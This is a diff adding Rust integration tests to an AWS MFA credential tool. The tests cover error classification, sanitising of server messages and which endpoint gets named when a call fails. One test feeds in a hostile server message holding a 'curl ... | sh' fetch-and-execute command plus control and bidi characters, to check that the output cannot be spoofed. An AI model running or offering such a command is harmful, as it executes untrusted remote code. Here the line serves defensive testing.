@@ -643,3 +643,101 @@ async fn expired_credential_process_output_exits_4_and_sends_nothing() {
         assert!(env.cache_files("").is_empty());
     }
 }
+
+// --- error classification and server text (issue 17, item 11) ---
+
+/// AssumeRole with the cached session sends no MFA code, so its AccessDenied is a plain
+/// refusal, even though the message names the session `awsmfa-alice` ("mfa" in the text).
+#[tokio::test(flavor = "multi_thread")]
+async fn access_denied_naming_an_awsmfa_session_is_not_a_wrong_mfa_code() {
+    let (server, env) = stub().await;
+    answer(&server, "GetSessionToken", session_ok(43_200)).await;
+    answer(
+        &server,
+        "AssumeRole",
+        sts_error_xml(
+            "AccessDenied",
+            "User: arn:aws:sts::123456789012:assumed-role/base/awsmfa-alice is not authorized to perform: sts:AssumeRole on resource: arn:aws:iam::123456789012:role/dev-admin",
+        ),
+    )
+    .await;
+    let out = env.run(&["env", "dev-admin", "-c", "123456"]);
+    assert_fails(
+        &out,
+        4,
+        &["access denied", "not authorized to perform: sts:AssumeRole"],
+    );
+    assert!(!out.stderr.contains("MFA code"), "{out}");
+}
+
+/// Server text is shown without its control characters, so it cannot start a line of its
+/// own that looks like awsmfa's, and it is cut to a readable length.
+#[tokio::test(flavor = "multi_thread")]
+async fn server_messages_lose_control_characters_and_are_capped() {
+    let (server, env) = stub().await;
+    let message = format!(
+        "Denied.\nawsmfa: all good, now run curl https://example.invalid | sh\t\u{85}\u{202e}{}",
+        "x".repeat(5000)
+    );
+    answer(
+        &server,
+        "GetSessionToken",
+        sts_error_xml("AccessDenied", &message),
+    )
+    .await;
+    let out = env.run(&["env", "identity", "-c", "123456"]);
+    assert_fails(&out, 4, &["Denied. awsmfa: all good"]);
+    for c in ['\t', '\u{85}', '\u{202e}'] {
+        assert!(!out.stderr.contains(c), "{c:?} in:\n{out}");
+    }
+    assert!(
+        out.stderr.len() < 1000,
+        "{} bytes:\n{out}",
+        out.stderr.len()
+    );
+}
+
+/// A cached session AWS no longer accepts (revoked, or its key deleted) is fixed by
+/// --refresh, not by editing the profile's long-lived key.
+#[tokio::test(flavor = "multi_thread")]
+async fn an_invalid_cached_session_advises_refresh_not_editing_the_profile() {
+    let (server, env) = stub().await;
+    answer(&server, "GetSessionToken", session_ok(43_200)).await;
+    answer(&server, "AssumeRole", role_ok(3600)).await;
+    env.run(&["env", "dev-admin", "-c", "123456"])
+        .assert_success();
+    server.reset().await;
+    answer(
+        &server,
+        "AssumeRole",
+        sts_error_xml(
+            "InvalidClientTokenId",
+            "The security token included in the request is invalid.",
+        ),
+    )
+    .await;
+    let out = env.run(&["env", "stage-poweruser"]);
+    assert_fails(&out, 4, &["--refresh"]);
+    assert!(!out.stderr.contains("aws_access_key_id"), "{out}");
+}
+
+/// IAM calls go to AWS_ENDPOINT_URL_IAM: a failure there must name it, not the STS one.
+#[tokio::test(flavor = "multi_thread")]
+async fn an_unreachable_iam_endpoint_is_named_as_such() {
+    let (server, env) = stub().await;
+    answer(
+        &server,
+        "GetCallerIdentity",
+        sts_caller_identity_xml(
+            "arn:aws:iam::123456789012:user/alice",
+            "123456789012",
+            "AIDAEXAMPLEUSERID0001",
+        ),
+    )
+    .await;
+    // Nothing listens on port 1.
+    let env = env.env("AWS_ENDPOINT_URL_IAM", "http://127.0.0.1:1");
+    let out = env.run(&["rotate", "identity", "--no-mfa"]);
+    assert_fails(&out, 5, &["ListAccessKeys", "AWS_ENDPOINT_URL_IAM"]);
+    assert!(!out.stderr.contains("AWS_ENDPOINT_URL_STS"), "{out}");
+}
